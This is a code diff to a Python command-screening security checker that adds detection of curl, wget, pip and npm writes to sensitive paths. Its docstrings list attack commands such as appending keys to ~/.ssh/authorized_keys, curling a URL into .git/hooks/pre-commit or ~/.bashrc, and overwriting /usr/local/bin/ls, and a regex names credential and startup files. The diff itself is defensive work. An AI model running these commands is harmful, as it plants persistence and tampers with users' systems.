@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import posixpath
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 from security.checks.base import Context, Hit, Trigger, command_check, operands
 from security.checks.bindings import ALL_NAMES, ANY_NAME, scene_bindings, shell_may_set
@@ -22,8 +22,11 @@ from security.knowledge import (
     git_subcommand,
     sed_edits_in_place,
 )
+from security.knowledge.curl import curl_written_paths
+from security.knowledge.installers import npm_written_paths, pip_argv, pip_written_paths
 from security.knowledge.patterns import GIT_GREP, SEARCH_TOOLS, pattern_arguments
 from security.knowledge.spec import words
+from security.knowledge.wget import wget_written_paths
 from security.paths import resolve, within
 from security.shell import Command, Word
 from security.unwrap import Scene
@@ -37,6 +40,7 @@ SENSITIVE = re.compile(
     r"(^|/)\.config/(autostart|systemd|fish|git)(/|$)|(^|/)\.npmrc$|(^|/)\.pypirc$|"
     r"(^|/)\.netrc$|(^|/)\.envrc$|(^|/)\.vscode/|(^|/)\.github/workflows/|(^|/)\.aws/|"
     r"(^|/)\.docker/|(^|/)\.kube/|(^|/)\.cargo/config|(^|/)\.pip/|(^|/)pip\.conf$|"
+    r"(^|/)\.?curlrc$|(^|/)\.wgetrc$|"
     r"(^|/)\.pre-commit-config\.yaml$|(^|/)\.husky/|(^|/)Makefile$|(^|/)\.lesskey$|"
     r"^/etc(/|$)|^/proc(/|$)|^/sys(/|$)|^/boot(/|$)|^/root(/|$)|^/dev/(?!null$|std|fd/|tty$)|"
     r"^/var/spool/cron|^/var/run/docker\.sock$|^/run/docker\.sock$|^/usr(/|$)|^/bin(/|$)|"
@@ -99,6 +103,16 @@ WRITERS: dict[str, str] = {
 
 
 VALUE_OPTIONS = {"xxd": XXD_VALUE_OPTIONS.split(), "uniq": UNIQ_VALUE_OPTIONS.split()}
+# commands that write where their options say (curl -o, wget -P, pip --target, npm
+# --prefix, pip/npm config set): knowledge/curl.py, wget.py, installers.py read them
+OPTION_WRITERS: dict[str, Callable[[list[str]], list[tuple[str, str]]]] = {
+    "curl": curl_written_paths,
+    "wget": wget_written_paths,
+    "pip": pip_written_paths,
+    "pip3": pip_written_paths,
+    "npm": npm_written_paths,
+}
+_PYTHON = re.compile(r"python[\d.]*|pypy3?|pip[\d.]*")  # python -m pip, pip3.11
 
 
 def _path(text: str) -> str:
@@ -109,7 +123,10 @@ def _path(text: str) -> str:
     return posixpath.normpath(text) if text else text
 
 
-WRITES = Trigger(names=frozenset(WRITERS), redirects=True)  # what written_paths reads
+# what written_paths reads
+WRITES = Trigger(
+    names=frozenset(WRITERS) | frozenset(OPTION_WRITERS), name_pattern=_PYTHON, redirects=True
+)
 PRINTS_ENVIRONMENT = frozenset({"env", "printenv", "export", "set", "declare"})
 
 
@@ -119,6 +136,13 @@ def written_paths(command: Command) -> Iterator[tuple[str, str]]:
         if redirect.writes and redirect.target is not None:
             yield redirect.target.value, f"redirection {redirect.op}"
     name = command.base_name
+    reader = OPTION_WRITERS.get(name)
+    argv: list[str] | None = command.argv
+    if reader is None and _PYTHON.fullmatch(name):
+        reader, argv = pip_written_paths, pip_argv(command.argv)
+    if reader is not None:
+        yield from reader(argv) if argv is not None else ()
+        return
     mode = WRITERS.get(name)
     args = command.argv[1:]
     if mode is None:
@@ -255,7 +279,10 @@ def sensitive_writes(command: Command, scene: Scene, ctx: Context) -> Iterator[H
 
     Attack: ``echo key >> ~/.ssh/authorized_keys``, ``cp x .git/hooks/pre-commit``,
     ``tee -a ~/.bashrc``, ``echo '[core] pager=...' > .git/config``, ``> /etc/passwd``,
-    ``echo 1 > /proc/sys/kernel/...``, ``ln -s x ~/.config/autostart/y``.
+    ``echo 1 > /proc/sys/kernel/...``, ``ln -s x ~/.config/autostart/y``; the options
+    that name where a tool writes too: ``curl -o .git/hooks/pre-commit URL``,
+    ``curl -O --output-dir ~ https://h/.bashrc``, ``npm config set`` (``~/.npmrc``: its
+    ``script-shell`` runs), ``echo 'output=x' > ~/.curlrc`` (curl's options).
     """
     for path, how in written_paths(command):
         if alias_fd(path) is not None or path in HARMLESS_DEVICES:
@@ -425,7 +452,8 @@ def outside_workspace(command: Command, scene: Scene, ctx: Context) -> Iterator[
     """The workspace is the project; elsewhere belongs to the system or the user.
 
     Attack: ``cp evil /usr/local/bin/ls``, ``echo x > ~/.local/bin/git``,
-    ``touch ../../outside``, ``mv x /tmp/../opt/y``.
+    ``touch ../../outside``, ``mv x /tmp/../opt/y``, ``curl -o ~/.local/bin/x URL``,
+    ``pip install --target /opt/x``, ``pip install --user x`` (``~/.local``).
     """
     for path, how in written_paths(command):
         if alias_fd(path) is not None or path in HARMLESS_DEVICES:
